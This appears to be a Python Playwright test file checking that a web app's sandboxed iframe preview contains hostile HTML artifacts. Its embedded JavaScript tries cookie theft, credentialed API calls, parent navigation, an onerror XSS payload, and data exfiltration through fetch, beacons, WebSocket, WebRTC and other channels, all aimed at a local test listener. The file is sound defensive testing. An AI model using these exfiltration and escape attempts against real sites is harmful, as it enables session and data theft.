"""A hostile page in its preview reaches nothing of ours and nobody outside (docs/security.md 15)."""

# ruff: noqa: E501 - the acts read best one a line

import base64
import json
import socket
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.cast import Cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ACTS = """
const out = "http://127.0.0.1:PORT", done = [];
const tries = {
  cookie: () => document.cookie = "stolen=1",
  readCookie: () => { if (document.cookie.includes("session")) throw "leak"; },
  localStorage: () => localStorage.setItem("a", "b"),
  sessionStorage: () => sessionStorage.setItem("a", "b"),
  indexedDB: () => indexedDB.open("x"),
  api: () => fetch("/api/artifacts", { credentials: "include" }),
  apiPost: () => fetch("/api/conversations", { method: "POST", credentials: "include", body: "{}" }),
  form: () => { const f = document.createElement("form"); f.method = "post"; f.action = "/sign-out"; document.body.append(f); f.submit(); },
  parentDom: () => parent.document.title = "owned",
  parentLocation: () => { parent.location = out + "/parent"; },
  top: () => { window.top.location = out + "/top"; },
  popup: () => window.open(out + "/popup"),
  worker: () => navigator.serviceWorker.register("/sw.js"),
  fetch: () => fetch(out + "/fetch"),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", out + "/xhr"); x.send(); },
  image: () => { new Image().src = out + "/image"; },
  css: () => { const s = document.createElement("style"); s.textContent = `body{background:url(${out}/css)}`; document.head.append(s); },
  font: () => new FontFace("f", `url(${out}/font)`).load(),
  script: () => { const s = document.createElement("script"); s.src = out + "/script"; document.head.append(s); },
  link: () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = out + "/link"; document.head.append(l); },
  iframe: () => { const f = document.createElement("iframe"); f.src = out + "/iframe"; document.body.append(f); },
  srcdoc: () => { const f = document.createElement("iframe"); f.srcdoc = `<script>new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:PORT"}]}).createDataChannel("x")</` + `script>`; document.body.append(f); },
  socket: () => new WebSocket("ws://127.0.0.1:PORT/socket"),
  events: () => new EventSource(out + "/events"),
  beacon: () => navigator.sendBeacon(out + "/beacon", "x"),
  rtc: () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
  message: () => parent.postMessage({ type: "frame-error", text: "<img src=x onerror=alert(1)>" }, "*"),
};
for (const [name, act] of Object.entries(tries)) {
  try { const made = act(); if (made && made.catch) made.catch(() => {}); } catch (error) {}
  done.push(name);
}
document.title = "tried " + done.length;
document.body.dataset.tried = done.length;
"""


class Listener:
    """Counts whoever connects, by TCP or UDP, to one port."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.heard: list[bytes] = []
        for work in (self._tcp, self._udp):
            threading.Thread(target=work, daemon=True).start()

    def _tcp(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            with connection:
                self.heard.append(connection.recv(200))

    def _udp(self) -> None:
        while True:
            try:
                self.heard.append(self.udp.recv(200))
            except OSError:
                return


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.tcp.close()
    made.udp.close()


def hostile(port: int) -> str:
    return f"<!doctype html><body><h1>ran</h1><script>{ACTS.replace('PORT', str(port))}</script>"


@pytest.mark.parametrize("kind", ["html file", "visualization"])
def test_a_hostile_page_reaches_nobody(
    page_as: Callable[..., Page], cast: Cast, listener: Listener, kind: str
) -> None:
    page_source = hostile(listener.port)
    if kind == "visualization":
        artifact = cast.artifact("Chart", "visualization", {"html": page_source, "visualization_data": []})
    else:
        artifact = cast.artifact("page.html", "file", base64.b64encode(page_source.encode()).decode())
    page = page_as("alice")
    alerts: list[str] = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    page.goto(f"/artifacts/{artifact.pk}")
    frame = page.frame_locator("iframe")
    # It ran: this is not a preview that shows nothing.
    expect(frame.get_by_role("heading", name="ran")).to_be_visible()
    expect(frame.locator("body[data-tried]")).to_have_count(1)
    page.wait_for_load_state("networkidle")
    # Whatever was on its way has arrived once a request begun later has.
    page.evaluate("() => fetch('/healthz')")
    assert listener.heard == []
    assert alerts == []
    assert page.url.endswith(f"/artifacts/{artifact.pk}")
    assert not [cookie for cookie in page.context.cookies() if cookie["name"] == "stolen"]
    assert json.loads(page.evaluate("() => JSON.stringify(Object.keys(localStorage))")) in ([], ["theme"])
    page.goto("/artifacts")
    expect(page.get_by_role("heading", name="Artifacts", exact=True)).to_be_visible()


@pytest.mark.parametrize(
    "leave", ["location = OUT", "document.write('<meta http-equiv=refresh content=0;url=' + OUT + '>')"]
)
def test_a_preview_that_leaves_gets_nowhere(
    page_as: Callable[..., Page], cast: Cast, listener: Listener, leave: str
) -> None:
    script = f"const OUT = 'http://127.0.0.1:{listener.port}/?secret=1'; {leave}"
    html = f"<!doctype html><body><script>{script}</script>"
    artifact = cast.artifact("Chart", "visualization", {"html": html, "visualization_data": []})
    page = page_as("alice")
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        page.goto(f"/artifacts/{artifact.pk}")
    page.wait_for_load_state("networkidle")
    assert listener.heard == []
    assert page.url.endswith(f"/artifacts/{artifact.pk}")


def test_in_a_tab_of_its_own_it_is_not_shown_bare(
    page_as: Callable[..., Page], cast: Cast, listener: Listener
) -> None:
    artifact = cast.artifact(
        "Chart", "visualization", {"html": hostile(listener.port), "visualization_data": []}
    )
    page = page_as("alice")
    page.goto(f"/artifacts/{artifact.pk}/frame")
    expect(page).to_have_url(f"{page.url.split('/artifacts')[0]}/artifacts/{artifact.pk}")
    page.wait_for_load_state("networkidle")
    assert listener.heard == []


def test_no_iframe_has_scripts_and_our_origin(page_as: Callable[..., Page], cast: Cast) -> None:
    artifact = cast.artifact("Chart", "visualization", {"html": "<b>x</b>", "visualization_data": []})
    page = page_as("alice")
    for path in (f"/artifacts/{artifact.pk}", f"/conversations/{cast.conversation.pk}"):
        page.goto(path)
        sandboxes = page.locator("iframe").evaluate_all(
            "frames => frames.map(f => f.getAttribute('sandbox'))"
        )
        assert sandboxes
        assert set(sandboxes) == {"allow-scripts"}
